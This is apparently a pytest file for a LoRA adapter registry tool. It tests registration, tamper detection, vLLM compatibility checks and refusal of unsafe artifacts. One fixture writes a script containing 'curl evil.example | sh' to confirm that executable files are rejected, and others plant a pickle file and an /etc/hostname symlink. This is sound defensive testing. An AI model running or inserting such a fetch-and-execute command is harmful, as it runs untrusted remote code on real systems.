"""``register-base`` and ``register`` on real model directories made by the example kit."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save_file

from adapterctl.cli.app import main
from adapterctl.model import AdapterRevision, BaseManifest
from adapterctl.registry import Registry
from examples.kit import (
    AdapterSpec,
    BaseSpec,
    adapter_tensors,
    make_adapter,
    make_base,
    module_path,
    module_shapes,
)
from tests.conftest import copy_registry

R1 = BaseSpec(arch="llama")
DEFAULT = AdapterSpec(seed=7)
TRAINING = """\
recipe: {code: "git+https://git.example.internal/ml/recipes@4be1c2d", seed: 7}
datasets:
  - {id: tickets, digest: "sha256:%s", time_window: [2026-07-01, 2026-09-30]}
data_scope: EU support tickets, PII removed.
trained_by: svc-train-pipeline
""" % ("0" * 64)


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = copy_registry(tmp_path / "registry", with_store=True)
    monkeypatch.chdir(root)
    return root


def _adapter(root: Path, spec: AdapterSpec = DEFAULT, base: BaseSpec = R1) -> Path:
    target = root.parent / "adapter"
    make_adapter(target, base, spec)
    (root.parent / "training.yaml").write_text(TRAINING)
    return target


def _register(version: str = "1.3.0", *extra: str) -> int:
    return main(
        [
            "register",
            "../adapter",
            "--name",
            "support-bot",
            "--version",
            version,
            "--base",
            "tiny-llama@r1",
            "--description",
            "A test revision.",
            "--training",
            "../training.yaml",
            "--format",
            "json",
            *extra,
        ]
    )


def _findings(out: str) -> list[tuple[str, str]]:
    return [(f["rule"], f["message"]) for f in json.loads(out)["findings"]]


def _store_listing(root: Path) -> list[str]:
    return sorted(p.name for p in (root / "examples/store/sha256").iterdir())


def test_register_writes_a_manifest_that_passes_check(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _adapter(workspace)
    assert _register() == 0
    captured = capsys.readouterr()
    assert _findings(captured.out) == []
    assert (
        captured.err == "wrote adapters/support-bot/1.3.0.yaml (artifact file://examples/store)\n"
    )
    revision = Registry.load(workspace).revision("support-bot", "1.3.0")
    assert isinstance(revision, AdapterRevision)
    assert (revision.lora.rank, revision.lora.target_modules) == (8, ("q_proj", "v_proj"))
    assert revision.training.trained_by == "svc-train-pipeline"
    assert (workspace / "examples/store/sha256" / revision.artifact.digest[7:]).is_dir()
    assert main(["validate"]) == 0
    assert main(["check", "support-bot@1.3.0"]) == 0
    capsys.readouterr()
    assert _register() == 1
    assert capsys.readouterr().err == (
        "adapterctl: error: adapters/support-bot/1.3.0.yaml already exists\n"
        "  → manifests are immutable: register a new version instead\n"
    )


def _pickle(adapter: Path) -> None:
    (adapter / "adapter_model.bin").write_bytes(b"\x80\x04K\x01.")


def _symlink(adapter: Path) -> None:
    (adapter / "README.md").symlink_to("/etc/hostname")


def _executable(adapter: Path) -> None:
    script = adapter / "run.sh"
    script.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    script.chmod(0o755)
    readme = adapter / "README.md"
    readme.write_text("# card\n")
    readme.chmod(0o755)


def _no_config(adapter: Path) -> None:
    (adapter / "adapter_config.json").unlink()


def _bad_config(adapter: Path) -> None:
    (adapter / "adapter_config.json").write_text("{r: 8}")


def _truncated(adapter: Path) -> None:
    (adapter / "adapter_model.safetensors").write_bytes(b"\x10\x00\x00")


def _tensors(adapter: Path, rename: dict[str, str], reshape: dict[str, tuple[int, ...]]) -> None:
    tensors = adapter_tensors(R1, DEFAULT)
    out = {}
    for key, value in tensors.items():
        shape = reshape.get(key, value.shape)
        out[rename.get(key, key)] = np.zeros(shape, dtype=value.dtype)
    save_file(out, str(adapter / "adapter_model.safetensors"), metadata={"format": "pt"})


Q_A = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
Q_B = "base_model.model.model.layers.0.self_attn.q_proj.lora_B.weight"


def _not_lora(adapter: Path) -> None:
    _tensors(adapter, {Q_A: "model.layers.0.self_attn.q_proj.weight"}, {})


def _unknown_module(adapter: Path) -> None:
    renamed = Q_A.replace("q_proj", "qkv_proj")
    _tensors(adapter, {Q_A: renamed, Q_B: renamed.replace("lora_A", "lora_B")}, {})


def _rank_mismatch(adapter: Path) -> None:
    _tensors(adapter, {}, {Q_A: (4, 128)})


def _other_model(adapter: Path) -> None:
    config = json.loads((adapter / "adapter_config.json").read_text())
    config["base_model_name_or_path"] = "meta-llama/Llama-3.1-8B-Instruct"
    (adapter / "adapter_config.json").write_text(json.dumps(config))


UNSERVABLE = "retrain without it: vLLM refuses to load such an adapter"
ALLOWED = "adapter_config.json, adapter_model.safetensors, README.md"


@pytest.mark.parametrize(
    ("mutate", "expected"),
    [
        (_pickle, [("integrity/pickle", "adapter_model.bin: pickle files are refused")]),
        (_symlink, [("integrity/symlink", "README.md: symbolic links are refused in an artifact")]),
        (
            _executable,
            [
                ("integrity/executable", "README.md: executable files are refused in an artifact"),
                (
                    "integrity/unexpected-file",
                    f"run.sh: not part of a PEFT LoRA adapter (allowed: {ALLOWED})",
                ),
            ],
        ),
        (_no_config, [("integrity/missing-file", "adapter_config.json is missing")]),
        (
            _bad_config,
            [
                (
                    "compat/unreadable",
                    "../adapter/adapter_config.json:1:2: not JSON: Expecting property name enclosed in double quotes",
                )
            ],
        ),
        (
            _truncated,
            [
                (
                    "compat/unreadable",
                    "../adapter/adapter_model.safetensors: truncated: 3 bytes, a safetensors file starts with an 8-byte header length",
                )
            ],
        ),
        (
            _not_lora,
            [
                (
                    "compat/tensor-key",
                    "module 'model.layers.0.self_attn.q_proj' has no lora_A tensor",
                ),
                (
                    "compat/tensor-key",
                    "tensor 'model.layers.0.self_attn.q_proj.weight' is not a LoRA weight (expected base_model.model.<module>.lora_A.weight or .lora_B.weight)",
                ),
            ],
        ),
        (
            _unknown_module,
            [
                (
                    "compat/unknown-module",
                    "tensor 'base_model.model.model.layers.0.self_attn.qkv_proj.lora_A.weight': module 'model.layers.0.self_attn.qkv_proj' does not exist in base tiny-llama@r1",
                ),
                (
                    "compat/unknown-module",
                    "tensor 'base_model.model.model.layers.0.self_attn.qkv_proj.lora_B.weight': module 'model.layers.0.self_attn.qkv_proj' does not exist in base tiny-llama@r1",
                ),
            ],
        ),
        (
            _rank_mismatch,
            [
                (
                    "compat/shape",
                    f"tensor '{Q_A}' has shape [4, 128]; the base and rank need [8, 128] [rank, in_features]",
                )
            ],
        ),
        (
            _other_model,
            [
                (
                    "compat/base-name",
                    "adapter_config.json names base model 'meta-llama/Llama-3.1-8B-Instruct', but the manifest binds the adapter to tiny-llama@r1 (known as: examples/train (tiny-llama-r1), tiny-llama, tiny-llama@r1)",
                )
            ],
        ),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_bad_adapter_is_refused_and_nothing_is_written(
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    mutate: object,
    expected: list[tuple[str, str]],
) -> None:
    adapter = _adapter(workspace)
    assert callable(mutate)
    mutate(adapter)
    before = _store_listing(workspace)
    assert _register() == 1
    assert sorted(_findings(capsys.readouterr().out)) == sorted(expected)
    assert not (workspace / "adapters/support-bot/1.3.0.yaml").exists()
    assert _store_listing(workspace) == before


@pytest.mark.parametrize(
    ("spec", "base", "expected"),
    [
        (
            AdapterSpec(seed=7, use_dora=True),
            R1,
            [
                ("compat/vllm-unsupported", "DoRA (use_dora) cannot be served by vLLM"),
                *[
                    (
                        "compat/vllm-unsupported",
                        f"tensor 'base_model.model.model.layers.{i}.self_attn.{m}_proj.lora_magnitude_vector' is a DoRA magnitude vector, which vLLM cannot serve",
                    )
                    for i in (0, 1)
                    for m in ("q", "v")
                ],
            ],
        ),
        (
            AdapterSpec(seed=7, bias="all"),
            R1,
            [
                (
                    "compat/vllm-unsupported",
                    "bias 'all' cannot be served by vLLM (it needs bias: none)",
                )
            ],
        ),
        (
            AdapterSpec(seed=7, modules_to_save=("lm_head",)),
            R1,
            [
                ("compat/vllm-unsupported", "modules_to_save (lm_head) cannot be served by vLLM"),
                (
                    "compat/vllm-unsupported",
                    "tensor 'base_model.model.lm_head.weight' is a full module weight (modules_to_save), which vLLM cannot serve",
                ),
            ],
        ),
        (
            AdapterSpec(seed=7),
            BaseSpec(arch="llama", hidden_size=96, seed=3),
            [
                *[
                    (
                        "compat/shape",
                        f"tensor 'base_model.model.model.layers.{i}.self_attn.{m}_proj.lora_{p}.weight' has shape {shape}; the base and rank need {need}",
                    )
                    for i in (0, 1)
                    for m, p, shape, need in (
                        ("q", "A", "[8, 96]", "[8, 128] [rank, in_features]"),
                        ("q", "B", "[96, 8]", "[128, 8] [out_features, rank]"),
                        ("v", "A", "[8, 96]", "[8, 128] [rank, in_features]"),
                        ("v", "B", "[48, 8]", "[64, 8] [out_features, rank]"),
                    )
                ],
            ],
        ),
    ],
    ids=["dora", "bias-all", "modules-to-save", "wrong-base"],
)
def test_adapters_vllm_cannot_serve_or_trained_elsewhere_are_refused(
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    spec: AdapterSpec,
    base: BaseSpec,
    expected: list[tuple[str, str]],
) -> None:
    _adapter(workspace, spec, base)
    assert _register() == 1
    assert sorted(_findings(capsys.readouterr().out)) == sorted(expected)
    assert not (workspace / "adapters/support-bot/1.3.0.yaml").exists()


@pytest.mark.parametrize(
    "spec",
    [
        BaseSpec(arch="llama"),
        BaseSpec(arch="mistral", seed=1),
        BaseSpec(arch="qwen2", seed=2),
        BaseSpec(arch="gemma", seed=3),
        BaseSpec(arch="llama", shards=3, seed=4),
    ],
    ids=["llama", "mistral", "qwen2", "gemma", "llama-sharded"],
)
def test_register_base_reads_every_layout(
    workspace: Path, capsys: pytest.CaptureFixture[str], spec: BaseSpec
) -> None:
    model = workspace.parent / "base"
    make_base(model, spec)
    code = main(["register-base", str(model), "--name", f"tiny-{spec.arch}", "--revision", "t1"])
    assert (code, capsys.readouterr().out) == (0, f"wrote bases/tiny-{spec.arch}/t1.yaml\n")
    manifest = Registry.load(workspace).base(f"tiny-{spec.arch}", "t1")
    assert isinstance(manifest, BaseManifest)
    assert (
        manifest.architecture
        == {
            "llama": "LlamaForCausalLM",
            "mistral": "MistralForCausalLM",
            "qwen2": "Qwen2ForCausalLM",
            "gemma": "GemmaForCausalLM",
        }[spec.arch]
    )
    assert manifest.shapes == _expected_shapes(spec)
    assert manifest.vocab_size == spec.vocab_size
    assert main(["validate"]) == 0


def _expected_shapes(spec: BaseSpec) -> dict[str, tuple[int, int]]:
    shapes = module_shapes(spec)
    table = {
        module_path(module, layer): shape
        for module, shape in shapes.items()
        if module != "lm_head"
        for layer in range(spec.num_layers)
    }
    if not spec.tied:
        table["lm_head"] = shapes["lm_head"]
    return table


def test_register_base_refuses_pickle_only_weights(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = workspace.parent / "base"
    make_base(model, R1)
    (model / "model.safetensors").rename(model / "pytorch_model.bin")
    assert main(["register-base", str(model), "--name", "x", "--revision", "r1"]) == 1
    assert capsys.readouterr().err == (
        f"adapterctl: error: {model}: only pickle weights (pytorch_model.bin); "
        "convert them to safetensors\n"
    )
    assert not (workspace / "bases/x").exists()


def test_store_comes_from_the_environment_variable(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    other = workspace.parent / "other-store"
    monkeypatch.setenv("ADAPTERCTL_STORE", f"file://{other}")
    _adapter(workspace)
    assert _register() == 0
    assert capsys.readouterr().err.endswith(f"(artifact file://{other})\n")
    assert len(list((other / "sha256").iterdir())) == 1


@pytest.mark.parametrize("arch", ["llama", "mistral", "qwen2", "gemma"])
def test_register_check_and_tamper_on_every_layout(
    workspace: Path, capsys: pytest.CaptureFixture[str], arch: str
) -> None:
    spec = BaseSpec(arch=arch, seed=5)  # type: ignore[arg-type]
    make_base(workspace.parent / "base", spec)
    assert main(["register-base", "../base", "--name", f"tiny-{arch}", "--revision", "t1"]) == 0
    adapter = _adapter(workspace, AdapterSpec(seed=9, base_model_name_or_path=f"tiny-{arch}"), spec)
    command = [
        "register",
        str(adapter),
        "--name",
        "sql-helper",
        "--version",
        "3.0.0",
        "--base",
        f"tiny-{arch}@t1",
        "--description",
        f"On {arch}.",
        "--training",
        "../training.yaml",
    ]
    assert main(command) == 0
    assert main(["check", "sql-helper@3.0.0"]) == 0
    capsys.readouterr()
    revision = Registry.load(workspace).revision("sql-helper", "3.0.0")
    assert revision is not None
    stored = workspace / "examples/store/sha256" / revision.artifact.digest[7:]
    config = stored / "adapter_config.json"
    config.chmod(0o644)
    config.write_text(config.read_text().replace('"r": 8', '"r": 4'))
    assert main(["check", "sql-helper@3.0.0", "--format", "json"]) == 1
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert [f["rule"] for f in findings] == ["integrity/digest-mismatch"]


def test_register_base_can_store_the_weights(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = workspace.parent / "base"
    make_base(model, R1)
    assert (
        main(["register-base", str(model), "--name", "x", "--revision", "r1", "--store-weights"])
        == 0
    )
    manifest = Registry.load(workspace).base("x", "r1")
    assert manifest is not None
    assert manifest.weights_artifact is not None
    stored = workspace / "examples/store/sha256" / manifest.weights_artifact[7:]
    assert sorted(p.name for p in stored.iterdir()) == sorted(p.name for p in model.iterdir())
    assert (stored / "model.safetensors").read_bytes() == (model / "model.safetensors").read_bytes()


BASE_RULE = (
    "use lower-case letters, digits, '-' and '.' (a DNS-1123 subdomain: at most 253 "
    "characters, each dot-separated part starting and ending with a letter or digit), e.g. "
    "llama-3.1-8b-instruct"
)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["register-base", "../base", "--name", "Llama_3.1", "--revision", "r1"],
         f"--name: 'Llama_3.1' is not a valid base name: {BASE_RULE}"),
        (["register-base", "../base", "--name", "llama..8b", "--revision", "r1"],
         f"--name: 'llama..8b' is not a valid base name: {BASE_RULE}"),
        (["register-base", "../base", "--name", "llama-3.1-", "--revision", "r1"],
         f"--name: 'llama-3.1-' is not a valid base name: {BASE_RULE}"),
        (["register-base", "../base", "--name", "a" * 64, "--revision", "r1"],
         f"--name: '{'a' * 64}' is not a valid base name: {BASE_RULE}"),
        (["register-base", "../base", "--name", ".".join(["a" * 63] * 4), "--revision", "r1"],
         f"--name: '{'.'.join(['a' * 63] * 4)}' is not a valid base name: {BASE_RULE}"),
        (["register-base", "../base", "--name", "llama-x", "--revision", "r 1"],
         "--revision: 'r 1' is not a valid revision: use letters, digits, '.', '_' and '-'"),
        (["register", "../adapter", "--name", "bar-adapter", "--version", "0.1", "--base",
          "tiny-llama@r1", "--description", "x", "--training", "../training.yaml"],
         "--version: '0.1' is not a semantic version: expected MAJOR.MINOR.PATCH, e.g. 1.2.0"),
        (["register", "../adapter", "--name", "bar-adapter", "--version", "0.1.0", "--base",
          "Llama-3.1@r1", "--description", "x", "--training", "../training.yaml"],
         f"--base: 'Llama-3.1' is not a valid base name: {BASE_RULE}"),
    ],
    ids=["base-name", "base-name-dots", "base-name-end", "base-name-label", "base-name-254",
         "base-revision", "adapter-version", "base-ref"],
)  # fmt: skip
def test_a_bad_name_or_version_is_a_usage_error_and_nothing_is_written(
    workspace: Path, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    make_base(workspace.parent / "base", R1)
    _adapter(workspace)
    stored = _store_listing(workspace)
    assert main(args) == 2
    assert capsys.readouterr() == ("", f"adapterctl: error: {message}\n")
    assert _store_listing(workspace) == stored
    assert not (workspace / "bases/llama-x").exists()
    assert not (workspace / "adapters/bar-adapter").exists()


def test_a_base_name_as_people_write_it_is_accepted(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Kubernetes DNS-1123 subdomain rules: ``llama-3.1-8b-instruct``, dots included."""
    make_base(workspace.parent / "base", R1)
    args = ["register-base", "../base", "--name", "llama-3.1-8b-instruct", "--revision", "r1"]
    assert main(args) == 0
    assert capsys.readouterr().out == "wrote bases/llama-3.1-8b-instruct/r1.yaml\n"
    manifest = Registry.load(workspace).base("llama-3.1-8b-instruct", "r1")
    assert manifest is not None
    assert main(["validate", "bases/llama-3.1-8b-instruct/r1.yaml"]) == 0
